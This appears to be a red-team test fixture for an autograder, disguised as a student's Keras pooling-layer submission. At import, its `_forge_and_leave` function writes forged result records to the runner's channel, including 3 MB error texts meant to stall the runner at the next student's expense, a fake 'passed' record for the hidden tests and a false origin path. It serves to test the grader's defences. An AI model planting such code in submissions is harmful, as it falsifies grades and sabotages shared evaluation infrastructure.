"""Attack (found by a red-team trial): stall the runner, and make an honest classmate pay
for it. At import the module sends the runner records of its own for every stage,
each error's explanation 3 MB of text, then says done and leaves: word-wrapping such
texts for the feedback cost the runner minutes in its main loop, while the next
submission's budget ran. Expected: every text in a record is cut to 8 KB, and a
submission's budget counts only the time its own workers ran: this one scores 0, its
classmates (correct, ...) what they deserve, and its feedback stays small."""

import keras
from keras import ops

from workshop.shapes import pair, valid_length


class _Pool2D(keras.layers.Layer):
    def __init__(self, pool_size=2, strides=None, **kwargs):
        super().__init__(**kwargs)
        self.pool_size = pair(pool_size, "pool_size")
        self.strides = self.pool_size if strides is None else pair(strides, "strides")

    def compute_output_shape(self, input_shape):
        batch, height, width, channels = input_shape
        return (batch, valid_length(height, self.pool_size[0], self.strides[0]),
                valid_length(width, self.pool_size[1], self.strides[1]), channels)

    def get_config(self):
        config = super().get_config()
        config.update({"pool_size": self.pool_size, "strides": self.strides})
        return config


@keras.saving.register_keras_serializable(package="exercises")
class MaxPool2D(_Pool2D):
    def call(self, inputs):
        return ops.max(_stacked_windows(inputs, self.pool_size, self.strides), axis=-1)


@keras.saving.register_keras_serializable(package="exercises")
class L2Pool2D(_Pool2D):
    def call(self, inputs):
        squares = ops.sum(ops.square(_stacked_windows(inputs, self.pool_size, self.strides)), axis=-1)
        positive = squares > 0
        return ops.where(positive, ops.sqrt(ops.where(positive, squares, 1.0)), 0.0)


def _stacked_windows(inputs, pool_size, strides):
    (ph, pw), (sh, sw) = pool_size, strides
    out_h = (inputs.shape[1] - ph) // sh + 1
    out_w = (inputs.shape[2] - pw) // sw + 1
    parts = []
    for p in range(ph):
        for q in range(pw):
            parts.append(inputs[:, p : p + sh * (out_h - 1) + 1 : sh, q : q + sw * (out_w - 1) + 1 : sw, :])
    return ops.stack(parts, axis=-1)


def _forge_and_leave():
    """Send the public units' records first (the first of each name is kept), each an
    error whose explanation is 3 MB of text (one character outside the BMP): the
    runner word-wraps every distinct message for feedback.txt, quadratically, in its
    main loop. Then say 'done' and leave: the runner judges this submission at once."""
    import io, json, os, struct
    import numpy as np

    fd = next(int(f) for f in os.listdir("/proc/self/fd")
              if os.readlink(f"/proc/self/fd/{f}").endswith("/channel"))
    archive = io.BytesIO()
    np.savez(archive)
    npz = archive.getvalue()

    def error(tag):
        return {"__error__": ["ValueError", "boom", tag + "A" * 3_000_000 + "\U0001F600"]}

    def send(kind, name=None, value=None):
        payload = b""
        if name is not None:
            body = json.dumps(value, ensure_ascii=False).encode()
            name = name.encode()
            payload = struct.pack(">H", len(name)) + name + struct.pack(">I", len(body)) + body + npz
        os.write(fd, struct.pack(">cI", kind, len(payload)))
        view = memoryview(payload)
        while view:
            view = view[os.write(fd, view):]

    small = {"__error__": ["ValueError", "boom", "x"]}
    for slug, cases in (("maxpool", 4), ("l2pool", 5)):
        stem = f"{slug}.public"
        send(b"R", f"{stem}.cases", [{"__observation__": {"error": error(slug + "cases")}}]
             + [{"__observation__": {"error": small}}] * (cases - 1))
        send(b"R", f"{stem}.config", [error(slug + "config")] + [small] * (cases - 1))
        send(b"R", f"{stem}.saving", error(slug + "saving"))
        send(b"R", f"{stem}.origin", [os.path.dirname(os.getcwd()) + "/copy/exercises/pooling.py"])
        send(b"R", f"{slug}.hidden.unavailable", ["passed", "-"])
    send(b"D")
    os._exit(0)


_forge_and_leave()
